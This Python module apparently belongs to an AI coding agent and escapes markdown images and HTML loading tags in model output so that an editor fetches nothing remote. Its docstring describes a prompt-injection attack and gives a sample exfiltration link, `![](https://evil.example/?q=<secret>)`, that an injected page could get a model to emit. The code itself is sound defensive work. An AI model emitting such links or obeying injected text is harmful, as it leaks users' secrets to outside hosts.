r"""Keeps an editor from fetching pictures that a text names (security.md 2.7; CVE-2025-54132).

A page or a file a tool has read can talk the model into `![](https://evil.example/?q=<secret>)`; an editor that renders
this has sent the secret. So what would make a renderer fetch something from elsewhere is broken with a backslash, and
reads as what it is:

    ![alt](https://…)    ![alt]\(https://…)     a `![` may stand far before, but in the same paragraph
    [label]: https://…   [label]\: https://…    a picture may name the label

Pictures of this machine (`![](img/x.png)`, `data:`) stay, and so do links, which nobody follows unasked. Code blocks
are no exception: nobody can say where one ends for every renderer. HTML is a matter of `html_tags`.
"""

import re
from enum import Enum, auto
from typing import Final

from acp_agent.output.sanitize import ControlGuard

_LOADING: Final = frozenset(
    (
        *("applet", "audio", "base", "bgsound", "embed", "feimage", "frame", "frameset", "iframe", "image", "img"),
        *("input", "link", "meta", "object", "picture", "portal", "script", "source", "style", "svg", "track", "use"),
        "video",
    )
)
_RAW: Final = frozenset(("listing", "noembed", "noframes", "plaintext", "pre", "textarea", "xmp"))
"""Tags that load nothing, but behind which a fence need not be one."""
_LOADING_ATTRIBUTE: Final = re.compile(
    r"[\s/\"'](?:\w*src|\w*srcset|srcdoc|poster|background|data|style|xlink:href|on\w+)\s*=",
    re.IGNORECASE,
)
_LONGEST_NAME: Final = 64
_LONGEST_TAG: Final = 512
"""Characters in which a tag must end; one that does not is taken for one that loads."""
_LONGEST_LINE: Final = 1000
"""Characters of a line that are looked at for a fence."""
_NAME: Final = re.compile(rf"[a-zA-Z][^\s/<>]{{0,{_LONGEST_NAME}}}")
_END_OF_TAG: Final = re.compile("[<>]")
_POINT: Final = re.compile("[\n<]")
_FENCE: Final = re.compile("`{3}|~{3}")
_OPENS: Final = re.compile(r"(?P<run>`{3,}|~{3,})[ \t]*[a-zA-Z][^`~<]*")
_CLOSES: Final = re.compile(r"(?P<run>`{3,}|~{3,})[ \t]*")


class _Tag(Enum):
    HARMLESS = auto()
    RAW = auto()
    LOADING = auto()


class HtmlGuard:
    """Breaks the loading tags of a stream. However the stream is cut, the pieces given back join to the same text.

    What is held back is a tag that has only begun, a few hundred characters at most.
    """

    def __init__(self) -> None:
        self._held = ""
        self._line = ""  # of the line under way, what went out already
        self._fence = ""  # what the code under way began with; empty outside of code
        self._in_tags = False  # whether a line of the paragraph begins with a tag: a fence behind it may be HTML
        self._trusts = True  # whether fences are what they seem

    def feed(self, chunk: str) -> str:
        """Return what is certain after this chunk; may be empty."""
        return self._broken(self._held + chunk, is_all=False)

    def finish(self) -> str:
        """Return the rest."""
        return self._broken(self._held, is_all=True)

    def _broken(self, text: str, *, is_all: bool) -> str:
        pieces, start, line = list[str](), 0, 0
        end = len(text)
        for found in _POINT.finditer(text):
            at = found.start()
            if found[0] == "\n":
                self._extend(text[line:at])
                self._end_line()
                line = at + 1
            elif not self._is_code(text[line:at]):
                tag = _judged(text, at + 1, is_all=is_all)
                if tag is None:
                    end = at
                    break
                self._trusts = self._trusts and tag is not _Tag.RAW
                if tag is _Tag.LOADING:
                    pieces += text[start : at + 1], "\\"
                    start = at + 1
        self._extend(text[line:end])
        self._held = text[end:]
        return "".join((*pieces, text[start:end]))

    def _extend(self, text: str) -> None:
        self._line = f"{self._line}{text}"[: _LONGEST_LINE + 1]
        self._trusts = self._trusts and len(self._line) <= _LONGEST_LINE

    def _is_code(self, before: str) -> bool:
        """Whether what stands in the line behind `before` is code for every renderer."""
        if not self._fence or not self._trusts or len(self._line) + len(before) > _LONGEST_LINE:
            return False
        return _FENCE.search(self._line + before) is None

    def _end_line(self) -> None:
        line, self._line = self._line.removesuffix("\r"), ""
        if self._fence:
            closing = _CLOSES.fullmatch(line)
            if closing is not None and closing["run"].startswith(self._fence):
                self._fence = ""
            elif _FENCE.search(line):
                self._trusts = False
            return
        opening = _OPENS.fullmatch(line)
        if opening is not None and not self._in_tags:
            self._fence = opening["run"]
        elif _FENCE.search(line):
            self._trusts = False
        elif not line.strip():
            self._in_tags = False
        elif line.lstrip().startswith("<"):
            self._in_tags = True


def _judged(text: str, at: int, *, is_all: bool) -> _Tag | None:
    """What the tag is whose name would begin at `at`; None where that is still to come."""
    if text[at : at + 1] in ("!", "?"):  # a comment or a declaration
        return _Tag.RAW
    name = _NAME.match(text, at)
    if name is None:
        return _Tag.HARMLESS if is_all or at < len(text) else None
    if len(name[0]) > _LONGEST_NAME:
        return _Tag.LOADING
    if name.end() == len(text) and not is_all:
        return None
    word = name[0].lower()
    if word in _LOADING:
        return _Tag.LOADING
    return _by_attributes(text, name.end(), _Tag.RAW if word in _RAW else _Tag.HARMLESS, is_all=is_all)


def _by_attributes(text: str, at: int, without: _Tag, *, is_all: bool) -> _Tag | None:
    """What a tag is whose attributes begin at `at`: `without` where none of them loads."""
    ends = _END_OF_TAG.search(text, at, at + _LONGEST_TAG)
    is_cut = ends is None and len(text) < at + _LONGEST_TAG
    if is_cut and not is_all:
        return None
    last = len(text) if ends is None else ends.start()
    if (ends is None and not is_cut) or _LOADING_ATTRIBUTE.search(text, at, last):
        return _Tag.LOADING
    return without


_LONGEST_TARGET = 256
"""Characters of a target that are looked at: what is not known to be local by then is not."""

_LONGEST_GAP = 16
"""White space in front of it, likewise."""

_SLICE = 64 * 1024
"""Characters looked through at once, which takes milliseconds: other threads wait for that long."""

_PLAIN = rf"[\w./#?=@+,%~-]{{1,{_LONGEST_TARGET}}}+"
_GAP = rf"[ \t\n]{{0,{_LONGEST_GAP}}}"
_LOCAL = re.compile(rf"{_GAP}+<?+(?:data:|(?!//){_PLAIN}(?=[\s)>\"']|\Z)|[)>\"']|\Z)")
_OPENING = re.compile(r"(?P<image>!\[)|(?P<paragraph>\n[ \t]*(?=\n))|(?P<target>\]\()|(?P<label>\]:)")
_UNDECIDED = re.compile(rf"(?:!|\]|\n[ \t]*|\][(:]{_GAP}<?[^\s)>\"']{{0,{_LONGEST_TARGET}}})\Z")


def defused(text: str) -> str:
    """The whole text, with nothing in it that a renderer would load from elsewhere, and no character that acts."""
    guard = AnswerGuard()
    pieces = [guard.feed(text[start : start + _SLICE]) for start in range(0, len(text), _SLICE)]
    return "".join((*pieces, guard.finish()))


class AnswerGuard:
    """Makes a stream of words fit for an editor: characters, HTML and pictures.

    However it is cut, the pieces given back join to the same text.
    """

    def __init__(self) -> None:
        self._guards = (ControlGuard(), HtmlGuard(), ImageGuard())

    def feed(self, chunk: str) -> str:
        """Return what is certain after this chunk; may be empty."""
        for guard in self._guards:
            chunk = guard.feed(chunk)
        return chunk

    def finish(self) -> str:
        """Return the rest."""
        rest = ""
        for guard in self._guards:
            rest = guard.feed(rest) + guard.finish()
        return rest


class ImageGuard:
    """Defuses a stream. However it is cut, the pieces given back join to the same text.

    What is held back is the beginning of a construct, a few hundred characters at most.
    """

    def __init__(self) -> None:
        self._held = ""
        self._pictured = False  # whether a `![` stands in the paragraph

    def feed(self, chunk: str) -> str:
        """What is certain after this chunk; may be empty."""
        text = self._held + chunk
        undecided = _UNDECIDED.search(text, max(0, len(text) - _LONGEST_TARGET - _LONGEST_GAP - 8))
        end = undecided.start() if undecided else len(text)
        self._held = text[end:]
        return self._broken(text, end)

    def finish(self) -> str:
        """The rest."""
        rest, self._held = self._held, ""
        return self._broken(rest, len(rest))

    def _broken(self, text: str, end: int) -> str:
        pieces, start = list[str](), 0
        for found in _OPENING.finditer(text):
            if found.start() >= end:
                break
            match found.lastgroup:
                case "image" | "paragraph":
                    self._pictured = found.lastgroup == "image"
                case _ if _LOCAL.match(text, found.end()):
                    pass
                case "target" if not self._pictured:
                    pass
                case _:
                    pieces += text[start : found.end() - 1], "\\"
                    start = found.end() - 1
        return "".join((*pieces, text[start:end]))
